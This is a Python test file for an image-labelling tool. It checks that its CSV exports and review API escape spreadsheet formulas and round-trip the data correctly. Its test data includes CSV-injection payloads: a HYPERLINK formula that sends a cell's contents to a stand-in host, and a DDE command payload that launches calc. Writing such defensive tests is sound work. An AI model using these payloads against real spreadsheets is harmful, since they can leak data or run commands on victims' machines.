"""labels.csv and errors.csv (files and the review app's /api/labels.csv) never hand a spreadsheet a formula,
and read back exactly what was written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient

from pixlabel.io.csvout import format_errors_csv, format_labels_csv
from pixlabel.io.formats.csvfmt import FORMULA_START, parse_labels_csv
from pixlabel.records import ImageInfo, Label, Provenance

HOSTILE = ['=HYPERLINK("https:x.example?"&A1,"open").png', "+1+cmd.png", "-2+3.png", "@SUM(A1).png",
           "\tlead-tab.png", "'quoted.png", "''twice.png", "plain.png"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_labels_csv_escapes_formulas_and_round_trips() -> None:
    labels = [Label(p, f"={i}+1" if i % 2 else "cat", 0.5, Provenance(source="model", labeler="@x"))
              for i, p in enumerate(HOSTILE)]
    text = format_labels_csv(labels, images=[ImageInfo("=unlabeled.png")])
    assert not [c for c in _cells(text) if c[:1] in FORMULA_START]
    back = parse_labels_csv(text, origin="labels.csv")
    assert [lab.image for lab in back.labels] == [p.strip() for p in HOSTILE]  # the reader strips blanks
    assert [lab.label for lab in back.labels] == [lab.label for lab in labels]
    assert back.labels[0].provenance.labeler == "@x" and "=unlabeled.png" in [i.path for i in back.images]


def test_errors_csv_escapes_formulas() -> None:
    text = format_errors_csv([("=cmd|' /C calc'!A0.png", "-decoder said: =1"), ("ok.png", "empty file")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=cmd|' /C calc'!A0.png", "'-decoder said: =1"] and rows[2] == ["ok.png", "empty file"]


def test_review_api_labels_csv_escapes_formulas(tmp_path: Path) -> None:
    from PIL import Image

    from pixlabel.review import ReviewSettings, create_app
    from pixlabel.store import open_store

    (tmp_path / "images").mkdir()
    Image.new("RGB", (4, 4)).save(tmp_path / "images" / "=evil.png")
    with open_store(tmp_path / "pixlabel.db") as store:
        store.sync_images([("=evil.png", "hash-1", (4, 4))])
        store.ensure_classes(["@cat"])
        store.put_labels([Label("=evil.png", "@cat", 0.4, Provenance(source="model"))])
        client = TestClient(create_app(store, ReviewSettings(tmp_path / "images", {"k" * 16: "ana"},
                                                             open_reads=True)))
        text = client.get("/api/labels.csv").text
    assert not [c for c in _cells(text) if c[:1] in FORMULA_START]
    assert [(lab.image, lab.label) for lab in parse_labels_csv(text, origin="api").labels] == [("=evil.png", "@cat")]
